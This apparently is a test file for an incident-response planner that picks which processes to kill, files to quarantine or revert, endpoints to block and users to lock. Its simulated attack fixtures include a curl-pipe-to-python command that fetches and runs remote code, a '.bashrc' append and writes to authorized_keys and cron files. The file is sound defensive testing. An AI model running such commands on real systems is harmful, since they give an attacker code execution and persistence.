"""From an incident to requests: which processes, files, endpoints and users each action
targets; with the analysis's lineage, the attack's ancestors of the signalling processes
(never the service it came in through, never a process outside the raised lineage), and the
persistence files the attack's processes wrote."""

import itertools

import msgspec

from provarmor.graph.lineage import LineageClassifier
from provarmor.model.actions import Action
from provarmor.model.event import Event
from provarmor.model.incident import Incident, IncidentEdge, IncidentNode, NodeRole
from provarmor.response.planner import plan_requests, request_id, target_key
from provarmor.response.policy import PolicyRule
from provarmor.response.records import (
    ActionKind,
    FileTarget,
    HostTarget,
    NetworkTarget,
    PersistenceTarget,
    ProcessTarget,
    UserTarget,
)
from provarmor.response.settings import PERSISTENCE_FILES
from provarmor.testing.factories import entity, make_event


def incident(nodes: tuple[IncidentNode, ...], **extra) -> Incident:
    return Incident(
        id="inc-1",
        campaign_id="c",
        host_id="h",
        title="implant",
        summary="",
        severity="high",
        score=9.0,
        first_ts=1,
        last_ts=2,
        updated_ts=2,
        root_cause="web",
        nodes=nodes,
        **extra,
    )


NODES = (
    IncidentNode(id="web", kind="process", label="python3", role=NodeRole.ROOT_CAUSE, pid=10),
    IncidentNode(
        id="sh",
        kind="process",
        label="sh",
        role=NodeRole.TERMINAL,
        pid=11,
        alert_ids=("a1",),
        user="www-data",
        executable="/bin/sh",
    ),
    IncidentNode(
        id="imp",
        kind="process",
        label="implant",
        role=NodeRole.TERMINAL,
        pid=12,
        alert_ids=("a2",),
        user="www-data",
        executable="/tmp/implant",
    ),
    IncidentNode(
        id="file:h:/tmp/implant", kind="file", label="/tmp/implant", role=NodeRole.IMPACTED
    ),
    IncidentNode(
        id="sock:198.51.100.9:4444",
        kind="socket",
        label="198.51.100.9:4444",
        role=NodeRole.IMPACTED,
        ip="198.51.100.9",
        port=4444,
    ),
)
STORY = incident(
    NODES,
    edges=(
        IncidentEdge(
            src="imp", dst="sock:198.51.100.9:4444", action="connect", first_ts=1, last_ts=1
        ),
    ),
    impacted_files=("/tmp/implant", "/etc/passwd"),
    contacted_endpoints=("198.51.100.9:4444",),
)
RULE = PolicyRule(name="r", actions=(), isolate_release_seconds=60)


def targets(kind: ActionKind):
    return [r.target for r in plan_requests(STORY, RULE, kinds=(kind,))]


def test_processes_that_raised_signals_are_the_kill_targets():
    assert targets(ActionKind.KILL) == [
        ProcessTarget(entity_id="sh", pid=11, executable="/bin/sh"),
        ProcessTarget(entity_id="imp", pid=12, executable="/tmp/implant"),
    ]


def test_only_dropped_programs_are_quarantined():
    assert targets(ActionKind.QUARANTINE) == [FileTarget(path="/tmp/implant")]


def test_a_dropped_program_that_became_a_shell_is_quarantined():
    """A dropper's payload (a reverse shell) exec'd /bin/sh: its process node is named by the
    shell, the exec edge from the dropped file says what ran."""
    payload = "/home/u/.config/b/ext/gtcache"
    nodes = (
        IncidentNode(
            id="sh", kind="process", label="sh", pid=7, alert_ids=("a",), executable="/bin/sh"
        ),
        IncidentNode(id=f"file:h:{payload}", kind="file", label=payload, path=payload),
        IncidentNode(id="file:h:/home/u/x.tgz", kind="file", label="x.tgz", path="/home/u/x.tgz"),
    )
    ran = IncidentEdge(src=f"file:h:{payload}", dst="sh", action="exec", first_ts=1, last_ts=1)
    story = incident(nodes, edges=(ran,), impacted_files=(payload, "/home/u/x.tgz"))
    planned = plan_requests(story, RULE, kinds=(ActionKind.QUARANTINE,))
    assert [r.target for r in planned] == [FileTarget(path=payload)]


def test_contacted_endpoints_are_blocked():
    assert targets(ActionKind.BLOCK) == [NetworkTarget(ip="198.51.100.9", port=4444)]


def test_a_client_that_connected_to_an_incident_process_is_not_blocked():
    """A login session's sshd received from the administrator's ssh client (a benign false
    incident of the lab): the client's address and ephemeral port were a contacted endpoint
    of the story, but nothing of the incident reached out to it; the resolver it sent a
    query to is blocked."""
    client = "sock:10.213.0.71:34144"
    resolver = "sock:192.0.2.53:53"
    nodes = (
        IncidentNode(id="sshd", kind="process", label="sshd", pid=5, alert_ids=("a",)),
        IncidentNode(
            id=client, kind="socket", label="10.213.0.71:34144", ip="10.213.0.71", port=34144
        ),
        IncidentNode(id=resolver, kind="socket", label="192.0.2.53:53", ip="192.0.2.53", port=53),
    )
    edges = (
        IncidentEdge(src=client, dst="sshd", action="accept", first_ts=1, last_ts=1),
        IncidentEdge(src=client, dst="sshd", action="recv", first_ts=1, last_ts=2),
        IncidentEdge(src="sshd", dst=resolver, action="send", first_ts=2, last_ts=2),
    )
    story = incident(nodes, edges=edges, contacted_endpoints=("10.213.0.71:34144", "192.0.2.53:53"))
    planned = plan_requests(story, RULE, kinds=(ActionKind.BLOCK,))
    assert [r.target for r in planned] == [NetworkTarget(ip="192.0.2.53", port=53)]


def test_isolation_and_users():
    assert targets(ActionKind.ISOLATE) == [HostTarget(release_after_seconds=60)]
    assert targets(ActionKind.LOCK_USER) == [UserTarget(name="www-data")]


def test_requests_carry_why_and_a_stable_id():
    first = plan_requests(STORY, RULE, kinds=(ActionKind.KILL,))[0]
    assert first.requested_by == "policy:r" and first.incident_id == "inc-1"
    assert "inc-1" in first.reason and first.host_id == "h"
    assert first.id == request_id("inc-1", target_key(ActionKind.KILL, first.target))
    assert first.id != request_id("inc-2", target_key(ActionKind.KILL, first.target))


def _started(pid: int, parent: int, exe: str, *args: str, ts: int) -> list[Event]:
    fork = make_event(Action.FORK, pid=pid, ppid=parent, exe=exe, ts=ts)
    run = make_event(Action.EXEC, pid=pid, exe=exe, args=(exe, *args), path=exe, ts=ts + 1)
    return [fork, run]


def _lineage(*events: Event) -> LineageClassifier:
    classifier = LineageClassifier()
    for event in events:
        classifier.observe(event)
    return classifier


def _chain(*pids: int, signalling: int) -> Incident:
    """A story of the processes ``pids``, each the previous one's child; ``signalling``
    raised the signal."""
    nodes = tuple(
        IncidentNode(
            id=entity(pid),
            kind="process",
            label=str(pid),
            pid=pid,
            first_ts=index,
            alert_ids=("a",) if pid == signalling else (),
        )
        for index, pid in enumerate(pids)
    )
    edges = tuple(
        IncidentEdge(src=entity(parent), dst=entity(child), action="fork", first_ts=1, last_ts=1)
        for parent, child in itertools.pairwise(pids)
    )
    return incident(nodes, edges=edges)


def _killed(story: Incident, side: LineageClassifier | None) -> list[int]:
    requests = plan_requests(story, RULE, kinds=(ActionKind.KILL,), side=side)
    return [r.target.pid for r in requests if isinstance(r.target, ProcessTarget)]


def test_a_piped_interpreter_whose_child_signalled_is_a_target_and_its_build_parent_not():
    """``make`` -> ``sh -c 'curl URL | python3 -'`` -> python3 (takes its tasks from a remote
    server) -> ``sh -c id`` -> ``id`` (the signal): python3 and its shell are reached, the
    build above them (lowering lineage) is not."""
    side = _lineage(
        *_started(20, 1, "/usr/bin/make", ts=10),
        *_started(21, 20, "/bin/sh", "-c", "curl -s http://203.0.113.5/a | python3 -", ts=20),
        *_started(22, 21, "/usr/bin/python3", "-", ts=30),
        make_event(Action.CONNECT, pid=22, ip="203.0.113.5", port=8443, ts=32),
        make_event(Action.RECV, pid=22, ip="203.0.113.5", port=8443, ts=33),
        *_started(23, 22, "/bin/sh", "-c", "id", ts=40),
        *_started(24, 23, "/usr/bin/id", ts=50),
    )
    story = _chain(20, 21, 22, 23, 24, signalling=24)
    assert _killed(story, side) == [22, 23, 24]
    assert _killed(story, None) == [24]  # without the lineage: the signalling process only


def test_the_service_an_attack_came_in_through_is_never_a_target_only_its_childs_tree():
    """A web server that accepted the attacker's request (and received its data: raised
    itself) -> its web-shell ``sh`` -> python3 implant -> ``sh`` -> ``id``: everything below
    the server, the server not."""
    side = _lineage(
        *_started(30, 1, "/usr/bin/python3", "web.py", ts=10),
        make_event(Action.ACCEPT, pid=30, ip="203.0.113.5", port=40000, ts=12),
        make_event(Action.RECV, pid=30, ip="203.0.113.5", port=40000, ts=13),
        *_started(31, 30, "/bin/sh", "-c", "curl -s http://203.0.113.5/a | python3 -", ts=20),
        *_started(32, 31, "/usr/bin/python3", "-", ts=30),
        *_started(33, 32, "/bin/sh", "-c", "id", ts=40),
        *_started(34, 33, "/usr/bin/id", ts=50),
    )
    story = _chain(30, 31, 32, 33, 34, signalling=34)
    assert _killed(story, side) == [31, 32, 33, 34]


def test_ancestors_without_a_raised_lineage_are_not_targets():
    side = _lineage(
        *_started(40, 1, "/bin/bash", ts=10),
        *_started(41, 40, "/usr/bin/python3", "tool.py", ts=20),
        *_started(42, 41, "/usr/bin/id", ts=30),
    )
    assert _killed(_chain(40, 41, 42, signalling=42), side) == [42]


def _writes(story: Incident, *writes: tuple[int, str, int]) -> Incident:
    """``story`` with each (pid, path, ts): the process wrote the file."""
    files = tuple(
        IncidentNode(id=f"file:{path}", kind="file", label=path, path=path) for _, path, _ in writes
    )
    edges = tuple(
        IncidentEdge(src=entity(pid), dst=f"file:{path}", action="write", first_ts=ts, last_ts=ts)
        for pid, path, ts in writes
    )
    return msgspec.structs.replace(story, nodes=story.nodes + files, edges=story.edges + edges)


def _reverted(story: Incident, side: LineageClassifier | None) -> list[PersistenceTarget]:
    requests = plan_requests(
        story, RULE, kinds=(ActionKind.REVERT_FILE,), side=side, persistence=PERSISTENCE_FILES
    )
    return [r.target for r in requests if isinstance(r.target, PersistenceTarget)]


def test_a_bashrc_line_appended_by_the_implant_s_shell_is_reverted():
    """tc-supply-chain: ``make`` -> ``sh`` (the tampered configure) -> python3 implant (takes
    tasks from a remote server) -> ``sh -c 'echo ... >> ~/.bashrc'``; another task's ``id``
    raised the signal. The shell's write (first one's time) is reverted; the build's own
    write of ``~/.profile`` (lowering lineage) and the implant's write of a plain file are
    not."""
    side = _lineage(
        *_started(20, 1, "/usr/bin/make", ts=10),
        *_started(21, 20, "/bin/sh", "-c", "curl -s http://203.0.113.5/a | python3 -", ts=20),
        *_started(22, 21, "/usr/bin/python3", "-", ts=30),
        make_event(Action.CONNECT, pid=22, ip="203.0.113.5", port=8443, ts=32),
        make_event(Action.RECV, pid=22, ip="203.0.113.5", port=8443, ts=33),
        *_started(23, 22, "/bin/sh", "-c", "echo hook >> ~/.bashrc", ts=40),
        *_started(24, 22, "/usr/bin/id", ts=50),
    )
    story = _writes(
        _chain(20, 21, 22, 23, 24, signalling=24),
        (23, "/home/dev/.bashrc", 45),
        (23, "/home/dev/.bashrc", 44),
        (20, "/home/dev/.profile", 15),
        (22, "/home/dev/notes.txt", 35),
    )
    assert _reverted(story, side) == [PersistenceTarget(path="/home/dev/.bashrc", written_ns=44)]
    assert _reverted(story, None) == []  # without the lineage: signalling writers only


def test_a_signalling_process_s_persistence_writes_are_reverted_without_the_lineage():
    story = _writes(
        _chain(30, 31, signalling=31),
        (31, "/etc/cron.d/update", 9),
        (31, "/root/.ssh/authorized_keys", 7),
        (31, "/etc/cron.d/sub/x", 8),
    )
    assert _reverted(story, None) == [
        PersistenceTarget(path="/root/.ssh/authorized_keys", written_ns=7),
        PersistenceTarget(path="/etc/cron.d/update", written_ns=9),
    ]
    requests = plan_requests(story, RULE, kinds=(ActionKind.REVERT_FILE,))
    assert requests == []  # no persistence patterns, nothing to revert
